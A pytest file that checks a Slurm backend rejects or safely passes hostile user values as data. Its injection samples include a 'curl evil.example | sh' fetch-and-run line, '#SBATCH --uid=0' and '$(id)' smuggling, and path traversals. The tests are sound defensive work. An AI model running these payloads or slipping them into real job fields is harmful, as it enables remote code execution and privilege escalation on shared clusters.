"""Slurm: every value a user can give (backend options, job fields) is validated before use and
never becomes shell or #SBATCH text. The script is checked as text, the sbatch command line
as argv, and real jobs on the real cluster show what actually arrives."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from infra.backends import JobSpec, Phase
from infra.backends.slurm import RUNTIME_ENV, SlurmBackend, batch_script, sbatch_argv
from pipeline.names import InvalidName
from tests.train_flow.conftest import job_env_processes
from tests.train_flow.test_backends import wait_for

# What an attacker (or a careless paste) puts into a text field.
SHELL_TRICKS = [
    "gpu\ncurl https://evil.example/x.sh | sh",
    "gpu; id",
    "gpu && id",
    "$(id)",
    "`id`",
    "gpu part",
    "gpu,debug",
    "gpu\n#SBATCH --uid=0",
    "-p",
    "--partition=debug",
    "../debug",
    "",
    "gpu\x00",
]


def spec(tmp_path: Path, **changes) -> JobSpec:
    fields = dict(name="run-a0", command=["-m", "model.train", "--config", str(tmp_path / "c.yaml")], run_dir=str(tmp_path))
    return JobSpec(**{**fields, **changes})


@pytest.mark.parametrize("value", SHELL_TRICKS + [3, ["gpu"]])
def test_partition_is_rejected_naming_the_option(value):
    with pytest.raises(InvalidName, match=r"^backend_options\.partition: "):
        SlurmBackend(partition=value)


@pytest.mark.parametrize(
    "option, value",
    [
        ("python", "python3"),
        ("python", "/usr/bin/python3\n/bin/sh"),
        ("python", "/usr/bin/../../bin/sh"),
        ("python", "/usr/bin/python3\x00"),
        ("slurm_conf", "slurm.conf"),
        ("slurm_conf", "/etc/slurm/slurm.conf\nx"),
        ("slurm_conf", "/etc/../tmp/slurm.conf"),
        ("signal_grace_s", "60"),
        ("signal_grace_s", 0),
        ("signal_grace_s", 70000),
        ("signal_grace_s", True),
        ("signal_grace_s", 1.5),
    ],
)
def test_every_other_backend_option_is_rejected_naming_it(option, value):
    with pytest.raises(ValueError, match=rf"^backend_options\.{option}: "):
        SlurmBackend(**{option: value})


@pytest.mark.parametrize(
    "field, value, error",
    [
        ("name", "run\n#SBATCH --uid=0", r"job name"),
        ("name", "run;id", r"job name"),
        ("nodes", "1\n#SBATCH --uid=0", r"JobSpec\.nodes"),
        ("nodes", True, r"JobSpec\.nodes"),
        ("procs_per_node", 0, r"JobSpec\.procs_per_node"),
        ("cpus_per_node", "2; id", r"JobSpec\.cpus_per_node"),
        ("gpus_per_node", 1.5, r"JobSpec\.gpus_per_node"),
        ("memory_gb", "1G\n#SBATCH", r"JobSpec\.memory_gb"),
        ("memory_gb", float("nan"), r"JobSpec\.memory_gb"),
        ("time_limit_s", "60", r"JobSpec\.time_limit_s"),
        ("command", ["-m", 7], r"JobSpec\.command"),
        ("env", {"A": 1}, r"JobSpec\.env"),
    ],
)
def test_job_fields_of_the_wrong_type_are_rejected_naming_them(tmp_path, field, value, error):
    with pytest.raises(ValueError, match=error):
        spec(tmp_path, **{field: value})


@pytest.mark.parametrize(
    "field, value",
    [
        ("run_dir", "runs/relative"),
        ("run_dir", "/runs/x\n#SBATCH --uid=0"),
        ("run_dir", "/runs/../etc"),
        ("run_dir", "/runs/%u-%x"),
        ("run_dir", "/runs/a\\b"),
        ("env", {"A,B": "x"}),
        ("env", {"A=B": "x"}),
        ("env", {"1A": "x"}),
        ("env", {"A B": "x"}),
    ],
)
def test_job_strings_are_rejected_naming_the_field(tmp_path, field, value):
    with pytest.raises(InvalidName, match=r"^(run_dir|env name)"):
        sbatch_argv(spec(tmp_path, **{field: value}), tmp_path / "s.sbatch", python=sys.executable)


# Values that are legal but full of shell syntax: they must arrive verbatim, as data.
HOSTILE_ARGS = ["$(touch {marker}a)", "`touch {marker}b`", "x; touch {marker}c", "a\nb", "'\"", "--partition=x", " spaced "]


def test_batch_script_depends_only_on_counts(tmp_path):
    plain = spec(tmp_path, command=["-m", "model.train"])
    hostile_dir = tmp_path / "run $(touch x) 'q'"
    hostile = JobSpec(
        name="other-name",
        command=["-m", "model.train", *(a.format(marker="/tmp/m") for a in HOSTILE_ARGS)],
        run_dir=str(hostile_dir),
        env={"FOO": "$(id)\n#SBATCH --uid=0"},
    )
    script = batch_script(hostile)
    assert script == batch_script(plain), "user text reached the script"
    assert "#SBATCH" not in script and "$(touch" not in script and "other-name" not in script
    assert '"$@"' in script and 'python=$1' in script
    assert subprocess.run(["bash", "-n"], input=script, text=True).returncode == 0
    counted = batch_script(JobSpec(name="n", command=["x"], run_dir=str(tmp_path), nodes=3, procs_per_node=4, cpus_per_node=16))
    assert "--nnodes 3 --nproc_per_node 4" in counted
    assert "srun --kill-on-bad-exit=1 --ntasks-per-node=1 --cpus-per-task=16" in counted


def test_sbatch_argv_is_one_entry_per_option_and_exports_only_named_variables(tmp_path):
    command = ["-m", "model.train", *(a.format(marker="/tmp/m") for a in HOSTILE_ARGS)]
    job = JobSpec(
        name="run-a0",
        command=command,
        run_dir=str(tmp_path / "with space"),
        env={"TOKENMILL_S3_ENDPOINT": "http://s3", "AWS_SECRET_ACCESS_KEY": "s3cr3t,x\ny"},
        nodes=2,
        procs_per_node=4,
        gpus_per_node=4,
        memory_gb=1.5,
        time_limit_s=3600,
    )
    script = tmp_path / "run-a0.sbatch"
    environ = {"PATH": "/usr/bin", "LANG": "C.UTF-8", "PREFECT_API_KEY": "pnu_x", "TOKENMILL_PIPELINE_ONLY": "1"}
    assert "PREFECT_API_KEY" not in RUNTIME_ENV
    argv = sbatch_argv(job, script, python="/opt/py/bin/python", partition="gpu-a100", environ=environ)
    split = argv.index(str(script))
    options, arguments = argv[1:split], argv[split + 1 :]
    assert arguments == ["/opt/py/bin/python", *command], "the command must reach the script verbatim, as arguments"
    assert all(o.startswith("--") and "\n" not in o for o in options)
    parsed = dict(o[2:].partition("=")[::2] for o in options)
    assert parsed["partition"] == "gpu-a100" and parsed["nodes"] == "2" and parsed["cpus-per-task"] == "4"
    assert parsed["gpus-per-node"] == "4" and parsed["mem"] == "1536M" and parsed["time"] == "60"
    assert parsed["signal"] == "TERM@180", "the trainer must hear of the time limit before it is killed"
    assert parsed["chdir"] == str(tmp_path / "with space") and parsed["output"].endswith("/logs/run-a0-%j.log")
    exported = parsed["export"].split(",")
    assert exported == sorted({"TOKENMILL_S3_ENDPOINT", "AWS_SECRET_ACCESS_KEY", "PATH", "LANG"})
    assert "ALL" not in exported and "PREFECT_API_KEY" not in exported
    assert not any("s3cr3t" in entry for entry in argv), "values travel in the environment, never on the command line"
    short = JobSpec(name="n", command=["x"], run_dir=str(tmp_path), time_limit_s=60)
    assert "--signal=TERM@30" in sbatch_argv(short, script, python=sys.executable, environ={}), "at most half the time"
    # torchrun gives its ranks as long to save before it kills them (its own default is 30 s)
    assert "--shutdown-timeout 30 " in batch_script(short) and "--shutdown-timeout 180 " in batch_script(JobSpec(name="n", command=["x"], run_dir=str(tmp_path)))


JOB_PROGRAM = """
import json, os, signal, sys, time
out = sys.argv[1]
def record(event):
    with open(out + "." + event, "w") as fh:
        json.dump({"argv": sys.argv[2:], "env": dict(os.environ), "at": time.time()}, fh)
record("start")
if sys.argv[2] == "wait-for-term":
    signal.signal(signal.SIGTERM, lambda *_: (record("term"), sys.exit(0)))
    time.sleep(600)
"""


def run_job(cluster, tmp_path: Path, run_dir: Path, args: list[str], **changes) -> tuple[SlurmBackend, object, Path]:
    run_dir.mkdir(parents=True)
    program = tmp_path / "program.py"
    program.write_text(JOB_PROGRAM)
    out = tmp_path / "seen"
    backend = SlurmBackend(slurm_conf=str(cluster.conf))
    job = JobSpec(name="hostile", command=[str(program), str(out), *args], run_dir=str(run_dir), procs_per_node=1, **changes)
    return backend, backend.submit(job), out


@pytest.mark.slurm
def test_hostile_values_reach_a_real_job_as_data(slurm_cluster, tmp_path, monkeypatch):
    marker = tmp_path / "pwned-"
    args = [a.format(marker=marker) for a in HOSTILE_ARGS]
    # The flow process holds more than the job needs: none of it may reach the job.
    monkeypatch.setenv("TOKENMILL_CANARY", "flow-only")
    run_dir = tmp_path / "run $(touch {marker}d) 'q' ; x".replace("{marker}", str(marker))
    env = {"TOKENMILL_S3_ENDPOINT": "http://127.0.0.1:1", "JOB_VALUE": "line1\nline2,with;$(touch x)"}
    backend, handle, out = run_job(slurm_cluster, tmp_path, run_dir, args, env=env)
    wait_for(lambda: backend.status(handle).finished, timeout_s=120)
    assert backend.status(handle).phase == Phase.SUCCEEDED, (run_dir / "logs").iterdir().__next__().read_text()
    seen = json.loads(Path(str(out) + ".start").read_text())
    assert seen["argv"] == args
    assert seen["env"]["JOB_VALUE"] == env["JOB_VALUE"] and seen["env"]["TOKENMILL_S3_ENDPOINT"] == env["TOKENMILL_S3_ENDPOINT"]
    assert "TOKENMILL_CANARY" not in seen["env"], "the job got the flow's whole environment (--export=ALL)"
    assert seen["env"]["TOKENMILL_JOB_ID"] == f"slurm-{handle.job_id}"
    assert not list(tmp_path.glob("pwned-*")), "a value was executed as shell"
    assert Path(handle.log_path).parent == run_dir / "logs"


@pytest.mark.slurm
@pytest.mark.slow
def test_ranks_get_sigterm_before_the_time_limit(slurm_cluster, tmp_path):
    """--signal=TERM@30 on a one-minute job: the rank hears it (and could checkpoint) before
    Slurm's time limit kills it. Slurm checks time limits about every 30 s."""
    backend, handle, out = run_job(slurm_cluster, tmp_path, tmp_path / "run", ["wait-for-term"], time_limit_s=60)
    started = wait_for(lambda: Path(str(out) + ".start").exists() and json.loads(Path(str(out) + ".start").read_text()), 120)
    term = Path(str(out) + ".term")
    wait_for(lambda: term.exists() or backend.status(handle).finished, timeout_s=150)
    assert term.exists(), "the rank was never told that the time limit was near"
    assert json.loads(term.read_text())["at"] - started["at"] < 60 + 5
    wait_for(lambda: backend.status(handle).finished, timeout_s=120)
    wait_for(lambda: job_env_processes(f"slurm-{handle.job_id}") == [], timeout_s=60)  # no process outlives the job
